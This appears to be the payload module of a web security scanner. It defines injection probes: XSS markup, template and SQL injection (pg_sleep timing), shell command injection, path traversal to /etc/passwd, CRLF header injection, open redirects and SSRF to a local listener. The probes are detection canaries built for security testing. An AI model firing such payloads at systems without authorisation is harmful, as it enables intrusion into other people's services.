"""What is sent: values that show by the answer whether somebody took them for more than text."""

from collections.abc import Iterator
from dataclasses import dataclass

TAG, ATTRIBUTE, HEADER, SITE = "dpx7k", "dpxattr", "X-Dpx-Injected", "dpx.invalid"
SUM, PRODUCT = "71009*9973", str(71009 * 9973)
MARKUP = f"<{TAG} {ATTRIBUTE}=1>"
SLEEP_SECONDS = 0.7
SLEEPER = "{sleep}"  # where a payload names the seconds


@dataclass(frozen=True)
class Payload:
    """`short`: part of the short form too, where each stands for its family."""

    name: str
    value: bytes
    short: bool = False

    @property
    def sleeps(self) -> bool:
        return SLEEPER.encode() in self.value

    def sent(self, seconds: float = SLEEP_SECONDS) -> bytes:
        return self.value.replace(SLEEPER.encode(), f"{seconds:.2f}".encode())


def payloads(listener: str) -> list[Payload]:
    """`listener`: an address of this machine at which nobody but the scanner listens."""
    made = [
        # one value that speaks markup, templates, SQL and shell at once
        Payload("polyglot", f"dpx'\" {ATTRIBUTE}=1 >{MARKUP}{{{{{SUM}}}}}${{{SUM}}}".encode(), True),
        Payload("shell", f"dpx;echo $(({SUM}));`echo $(({SUM}))`|cat".encode(), True),
        Payload("sql text", f"1' OR (SELECT 1 FROM pg_sleep({SLEEPER})) IS NOT NULL -- ".encode(), True),
        Payload("sql number", f"1 OR (SELECT 1 FROM pg_sleep({SLEEPER})) IS NOT NULL -- ".encode(), True),
        Payload("traversal", b"../" * 12 + b"etc/passwd", True),
        Payload("header", f"dpx\r\n{HEADER}: yes\r\n\r\n{MARKUP}".encode(), True),
        Payload("redirect", f"//{SITE}/".encode(), True),
        Payload("request", f"http://{listener}/dpx".encode(), True),
        Payload("nul", b"dpx\x00dpx", True),
        Payload("not utf-8", b"dpx\xff\xfe\xc3(", True),
        Payload("long", b"9" * 20_000, True),
        *_long_form(listener),
    ]
    assert len({payload.name for payload in made}) == len(made)
    return made


def _long_form(listener: str) -> Iterator[Payload]:
    for n, text in enumerate(
        [
            f"{MARKUP}",
            f'" {ATTRIBUTE}=1 x="',
            f"' {ATTRIBUTE}=1 x='",
            f"javascript:{TAG}",
            f"JaVaScRiPt&colon;{TAG}",
            f"</script>{MARKUP}",
            f"</textarea></title>{MARKUP}",
            f"\u2028{MARKUP}",
            f"＜{TAG} {ATTRIBUTE}=1＞",
        ]
    ):
        yield Payload(f"markup {n}", text.encode())
    for n, text in enumerate([f"<%= {SUM} %>", f"#{{{SUM}}}", "{% widthratio 71009 1 9973 %}", "%(dpx)s%s%n", "{0.__class__}"]):
        yield Payload(f"template {n}", text.encode())
    for n, text in enumerate(
        [
            f"'; SELECT pg_sleep({SLEEPER}) -- ",
            f"1); SELECT pg_sleep({SLEEPER}) -- ",
            f"'||(SELECT '' FROM pg_sleep({SLEEPER}))||'",
            f'"; SELECT pg_sleep({SLEEPER}) -- ',
            "\\",
            "%'",
            "(SELECT 1/0)",
        ]
    ):
        yield Payload(f"sql {n}", text.encode())
    for n, text in enumerate(
        [f"$(sleep {SLEEPER})", f"& ping -n 1 127.0.0.1 & echo {SUM}", f"|| sleep {SLEEPER} #", f"\n sleep {SLEEPER}\n"]
    ):
        yield Payload(f"shell {n}", text.encode())
    for n, text in enumerate(["/etc/passwd", "..%2f" * 12 + "etc/passwd", "....//" * 12 + "etc/passwd", "file:///etc/passwd"]):
        yield Payload(f"traversal {n}", text.encode())
    for n, text in enumerate([f"dpx\n{HEADER}: yes", f"dpx\r{HEADER}: yes", f"dpx%0d%0a{HEADER}: yes", f"dpx\u560a{HEADER}: yes"]):
        yield Payload(f"header {n}", text.encode())
    sites = [f"https://{SITE}/", f"/\\{SITE}/", f"https:{SITE}", f"/%09/{SITE}", f"///{SITE}", f"http://localhost@{SITE}/"]
    for n, text in enumerate(sites):
        yield Payload(f"redirect {n}", text.encode())
    port = listener.rpartition(":")[2]
    for n, text in enumerate([f"http://localhost:{port}/dpx", f"http://2130706433:{port}/", f"http://[::ffff:127.0.0.1]:{port}/"]):
        yield Payload(f"request {n}", text.encode())
    for n, text in enumerate(["9" * 60_000, "-1", "0", "1e309", "NaN", "٣", "true", "[]", "9223372036854775808", "😀" * 50, "‮dpx", ""]):
        yield Payload(f"odd {n}", text.encode())
